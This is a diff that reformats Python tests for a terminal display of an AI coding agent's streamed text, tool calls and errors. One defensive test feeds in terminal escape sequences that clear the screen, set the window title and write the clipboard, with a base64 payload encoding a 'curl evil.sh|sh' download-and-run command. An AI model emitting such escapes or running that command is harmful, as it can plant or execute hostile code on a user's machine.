@@ -31,14 +31,23 @@ def shown(*events: object) -> str:
 
 
 def test_streamed_text_is_printed_line_by_line_and_opencodes_whole_text_not_again() -> None:
-    text = shown(StepStart("s"), TextDelta("s", text="Hello, "), TextDelta("s", text="world.\nSecond"),
-                 TextDelta("s", text=" line."), Text("s", text="Hello, world.\nSecond line."))
+    text = shown(
+        StepStart("s"),
+        TextDelta("s", text="Hello, "),
+        TextDelta("s", text="world.\nSecond"),
+        TextDelta("s", text=" line."),
+        Text("s", text="Hello, world.\nSecond line."),
+    )
     assert text.count("Hello, world.") == 1 and text.count("Second line.") == 1
 
 
 def test_opencodes_step_start_after_the_first_words_does_not_break_the_line() -> None:
-    text = shown(TextDelta("s", text="I'll write"), StepStart("s"), TextDelta("s", text=" the program first."),
-                 ToolRequested("s", tool="write"))
+    text = shown(
+        TextDelta("s", text="I'll write"),
+        StepStart("s"),
+        TextDelta("s", text=" the program first."),
+        ToolRequested("s", tool="write"),
+    )
     assert "I'll write the program first." in text
 
 
@@ -47,17 +56,29 @@ def test_text_that_did_not_stream_through_the_endpoint_is_printed_whole() -> Non
 
 
 def test_each_tool_call_shows_as_it_is_asked_for_and_as_it_ends() -> None:
-    text = shown(ToolRequested("s", tool="bash"), ToolResult("s", call_id="1", tool="bash", title="echo hi"),
-                 ToolRequested("s", tool="edit"),
-                 ToolResult("s", call_id="2", tool="edit", title="src/app.py", is_error=True,
-                            output="File src/app.py not found\nmore detail"))
+    text = shown(
+        ToolRequested("s", tool="bash"),
+        ToolResult("s", call_id="1", tool="bash", title="echo hi"),
+        ToolRequested("s", tool="edit"),
+        ToolResult(
+            "s",
+            call_id="2",
+            tool="edit",
+            title="src/app.py",
+            is_error=True,
+            output="File src/app.py not found\nmore detail",
+        ),
+    )
     assert "→ bash" in text and "✓ bash echo hi" in text and "→ edit" in text
     assert "✗ edit src/app.py — File src/app.py not found" in text and "more detail" not in text
 
 
 def test_retries_and_errors_are_said() -> None:
-    text = shown(UpstreamRetry(None, status_code=429, attempt=2, delay_s=1.5),
-                 Error("s", name="APIError", message="Invalid API key"), ReasoningDelta("s", text="hmm"))
+    text = shown(
+        UpstreamRetry(None, status_code=429, attempt=2, delay_s=1.5),
+        Error("s", name="APIError", message="Invalid API key"),
+        ReasoningDelta("s", text="hmm"),
+    )
     assert "the upstream answered 429: retry 2 in 1.5 s" in text and "✗ APIError: Invalid API key" in text
     assert "hmm" not in text  # reasoning is an activity, not the answer
 
@@ -77,8 +98,11 @@ def test_what_the_agent_writes_cannot_command_the_terminal() -> None:
     text reach a person's terminal; ESC there starts a terminal command (clear the screen, set its
     title, write the clipboard with OSC 52). Rich passes it through: it is shown, not obeyed."""
     clipboard = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x1b\\"
-    text = shown(ToolResult("s", call_id="1", tool="bash", title=f"echo hi{clipboard}"),
-                 ToolResult("s", call_id="2", tool="read", title="x", is_error=True, output="\x1b[2Jgone"),
-                 TextDelta("s", text="answer\x1b]0;owned\x07\n"), TextDelta("s", text="tail\x9b2J"))
+    text = shown(
+        ToolResult("s", call_id="1", tool="bash", title=f"echo hi{clipboard}"),
+        ToolResult("s", call_id="2", tool="read", title="x", is_error=True, output="\x1b[2Jgone"),
+        TextDelta("s", text="answer\x1b]0;owned\x07\n"),
+        TextDelta("s", text="tail\x9b2J"),
+    )
     assert "\x1b" not in text and "\x9b" not in text and "\x07" not in text
     assert "\\x1b]52;c;" in text and "\\x1b[2Jgone" in text and "answer\\x1b]0;owned" in text  # BEL: rich drops it
